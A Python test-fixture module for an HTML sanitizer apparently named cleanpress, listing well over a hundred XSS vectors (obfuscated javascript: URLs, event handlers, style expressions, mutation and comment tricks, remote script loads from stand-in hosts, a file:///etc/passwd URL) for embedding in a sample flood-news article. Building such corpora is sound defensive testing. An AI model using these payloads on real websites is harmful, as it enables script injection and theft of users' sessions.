"""Our own corpus of script-injection and filter-evasion vectors.

Written for cleanpress from the well-known families of sanitizer bypasses
(script smuggling, event handlers, disguised ``javascript:`` URLs, style
payloads, foreign-content and raw-text mutation tricks, comment and CDATA
confusion, attribute break-outs). Each vector is a snippet of HTML; the
tests embed it in an article and check that every output re-parses clean.
"""

from __future__ import annotations

#: Ways to write ``javascript:`` (and other active schemes) that a naive
#: prefix check misses: entities, padding, controls, case, other schemes.
DISGUISED_URLS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "\njavascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x0ejavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java\x00script:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#x0D;ascript:alert(1)",
    "jav&#9;ascript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "javascript&#0000058alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "&amp;#106;avascript:alert(1)",
    "&amp;#x6A;avascript&amp;colon;alert(1)",
    "&#x20;javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "java\u00adscript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/javascript,alert(1)",
    "filesystem:http://x/temporary/a",
    "blob:http://x/1234",
    "file:///etc/passwd",
    "about:blank",
    "view-source:http://x",
    "jar:http://x!/a",
    "ms-its:mhtml:file://C:/x.mht!http://x",
    "x-javascript:alert(1)",
    "feed:javascript:alert(1)",
    "javascript://%0Aalert(1)",
    "javascript://comment%0aalert(1)",
    "javascript:/*-->*/alert(1)",
)

#: Attribute slots that carry a URL somewhere in HTML, SVG or MathML.
URL_CONTEXTS: tuple[str, ...] = (
    '<a href="{u}">link text</a>',
    "<a href='{u}'>single quoted</a>",
    "<a href={u}>unquoted</a>",
    '<img src="{u}" alt="pic">',
    '<img srcset="{u} 2x, /ok.png 1x" alt="srcset">',
    '<img src="/fine.png" srcset="{u} 900w" alt="bad srcset">',
    '<img data-src="{u}" alt="lazy">',
    '<iframe src="{u}"></iframe>',
    '<form action="{u}"><input type="submit" value="go"></form>',
    '<button formaction="{u}">b</button>',
    '<object data="{u}">fallback</object>',
    '<embed src="{u}">',
    '<table background="{u}"><tr><td>cell</td></tr></table>',
    '<svg><a xlink:href="{u}"><text x="1" y="1">svg link</text></a></svg>',
    '<math href="{u}">math</math>',
    '<area href="{u}">',
    '<base href="{u}">',
    '<link rel="stylesheet" href="{u}">',
    '<blockquote cite="{u}">quoted</blockquote>',
    '<video poster="{u}"></video>',
    '<q cite="{u}">inline quote</q>',
)

#: Hand-written vectors, one family after another.
HANDWRITTEN: tuple[str, ...] = (
    # plain and obfuscated script elements
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    '<script src="http://x/x.js"></script>',
    "<script/xss src=http://x/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script\n>alert(1)</script\n>",
    '<script type="text/plain">alert(1)</script>',
    "<<script>alert(1);//<</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    '<svg><script href="data:,alert(1)"/></svg>',
    "<svg><script>alert&#40;1&#41;</script></svg>",
    # event handlers
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<img src="x" ONERROR="alert(1)">',
    '<img src="x"onerror="alert(1)">',
    '<img/src="x"/onerror="alert(1)">',
    '<img src=x onerror\n=alert(1)>',
    '<body onload="alert(1)">text</body>',
    '<p onclick="alert(1)">click</p>',
    '<p onmouseover=alert(1)>hover</p>',
    '<div onfocus="alert(1)" tabindex="0" autofocus>focus</div>',
    '<details open ontoggle="alert(1)"><summary>s</summary>d</details>',
    '<marquee onstart="alert(1)">m</marquee>',
    '<video><source onerror="alert(1)"></video>',
    '<audio src="x" onerror="alert(1)"></audio>',
    '<input autofocus onfocus="alert(1)">',
    '<select onfocus="alert(1)" autofocus><option>o</option></select>',
    '<textarea onfocus="alert(1)" autofocus>t</textarea>',
    '<keygen autofocus onfocus="alert(1)">',
    '<a href="http://ok.example/" onmouseover="alert(1)">ok link, bad handler</a>',
    '<td onclick="alert(1)">cell</td>',
    '<span onpointerenter="alert(1)">span</span>',
    '<p oNcLiCk="alert(1)">mixed case handler</p>',
    '<p on-click="x" onclick\x0b="alert(1)">odd whitespace</p>',
    # style attribute and style element payloads
    '<p style="background:url(javascript:alert(1))">bg</p>',
    '<p style="width:expression(alert(1))">expr</p>',
    '<p style="behavior:url(x.htc)">htc</p>',
    '<p style="-moz-binding:url(http://x/x.xml#x)">binding</p>',
    '<p style="background-image:url(&#106;avascript:alert(1))">entity in style</p>',
    '<p style="x:\\65xpression(alert(1))">escaped expression</p>',
    "<style>@import 'http://x/x.css';</style>",
    "<style>p{background:url(javascript:alert(1))}</style>",
    '<style>*{x:expression(alert(1))}</style><p>after style</p>',
    '<link rel="stylesheet" href="http://x/x.css">',
    # frames, objects, embeds, applets, meta and base
    '<iframe src="http://x/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    '<object type="text/x-scriptlet" data="http://x/x.sct"></object>',
    '<object><param name="src" value="javascript:alert(1)"></object>',
    '<embed type="image/svg+xml" src="http://x/x.svg">',
    '<applet code="x.class">applet</applet>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="set-cookie" content="a=b">',
    '<base href="http://evil.example/">',
    '<portal src="http://x/"></portal>',
    # forms
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<form action="http://x/"><input name="q"><input type="image" src="javascript:alert(1)"></form>',
    '<isindex action="javascript:alert(1)" type="image">',
    '<input type="hidden" name="token" value="secret">',
    # foreign content and namespace confusion
    '<svg onload="alert(1)">',
    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><foreignObject><p onclick="alert(1)">fo</p></foreignObject></svg>',
    '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m</maction></math>',
    '<svg:script>alert(1)</svg:script>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    '<template><img src=x onerror=alert(1)></template>',
    # raw-text and comment confusion (mutation XSS)
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<title><img src=x onerror=alert(1)></title>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<p><!-- unclosed comment <img src=x onerror=alert(1)>',
    '<comment><img src=x onerror=alert(1)></comment>',
    # attribute break-outs and quoting tricks
    '<a href="http://ok.example/" title=\'"><script>alert(1)</script>\'>t</a>',
    '<img alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" src="/a.png">',
    '<img """><script>alert(1)</script>">',
    '<img src=`x` onerror=`alert(1)`>',
    "<a href='http://ok.example/' title=\"'><img src=x onerror=alert(1)>\">q</a>",
    '<p title="&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;">entity break-out</p>',
    '<a href="http://ok.example/?q=&quot;&gt;&lt;script&gt;">query break-out</a>',
    '<img src="/a.png" alt=x onerror=alert(1)>',
    '<a href="/ok" ="" onclick="alert(1)">empty name</a>',
    # nested and broken structure
    '<a href="javascript:alert(1)"><a href="/ok">nested</a></a>',
    '<p><b><i><u><a href="javascript:alert(1)">deep link</a></u></i></b></p>',
    '<table><tr><td><script>alert(1)</script>cell text</td></tr></table>',
    '<ul><li><iframe src="http://x/"></iframe>item</li></ul>',
    '<figure><img src="javascript:alert(1)"><figcaption onclick="alert(1)">cap</figcaption></figure>',
    '<blockquote><style>p{}</style>quote</blockquote>',
    '<pre><script>alert(1)</script>code</pre>',
    '<h2 onclick="alert(1)">heading</h2>',
    '<p>text <img src="x" onerror="alert(1)"> more</p>',
    '<p>&lt;script&gt;alert(1)&lt;/script&gt; as text</p>',
    '<dialog open><p onclick="alert(1)">dialog</p></dialog>',
    '<canvas id="c">canvas fallback</canvas>',
    '<map name="m"><area shape="rect" href="javascript:alert(1)"></map>',
    '<slot onclick="alert(1)">slot</slot>',
    '<custom-element onclick="alert(1)">custom</custom-element>',
    '<a href="http://ok.example/" target="_blank" rel="opener">tabnab</a>',
    '<a href="http://ok.example/" ping="http://track.example/">ping</a>',
    '<img src="http://ok.example/a.png" usemap="#m" ismap>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    '<p id="__proto__" class="constructor" name="x">clobber</p>',
    '<form id="document"><input name="cookie"></form>',
)


def url_vectors() -> list[str]:
    """Every disguised URL in every URL-carrying slot."""
    return [context.format(u=url) for url in DISGUISED_URLS for context in URL_CONTEXTS]


def all_vectors() -> list[str]:
    """The whole corpus, hand-written vectors first, without duplicates."""
    seen: dict[str, None] = dict.fromkeys(HANDWRITTEN)
    seen.update(dict.fromkeys(url_vectors()))
    return list(seen)


#: Prose of our own to wrap a vector in, so that an extractor keeps it as content.
ARTICLE_PARAGRAPHS: tuple[str, ...] = (
    ("The river had been rising for three days before the town council agreed to open the old "
    "floodgates, a decision that several farmers downstream had opposed at every meeting since spring."),
    ("Engineers who inspected the gates last year found the hinges sound but the concrete sills worn, "
    "and they warned that a full opening could send debris into the lower fields within hours."),
    ("By Thursday evening volunteers had stacked sandbags along the school wall, and the bakery on "
    "the square stayed open late to feed the people who kept arriving from the outlying villages."),
    ("Officials said the water should fall again by the weekend, though they asked residents near the "
    "bridge to keep their cellars clear and to report any cracks in the embankment at once."),
)


def article_with(vector: str) -> str:
    """A plausible article page with ``vector`` inside its second paragraph and after it."""
    first, second, third, fourth = ARTICLE_PARAGRAPHS
    return (
        "<!DOCTYPE html><html><head><title>Floodgates opened</title></head><body>"
        "<article><h1>Floodgates opened after days of rain</h1>"
        f"<p>{first}</p><p>{second} {vector}</p>{vector}<p>{third}</p><p>{fourth}</p>"
        "</article></body></html>"
    )
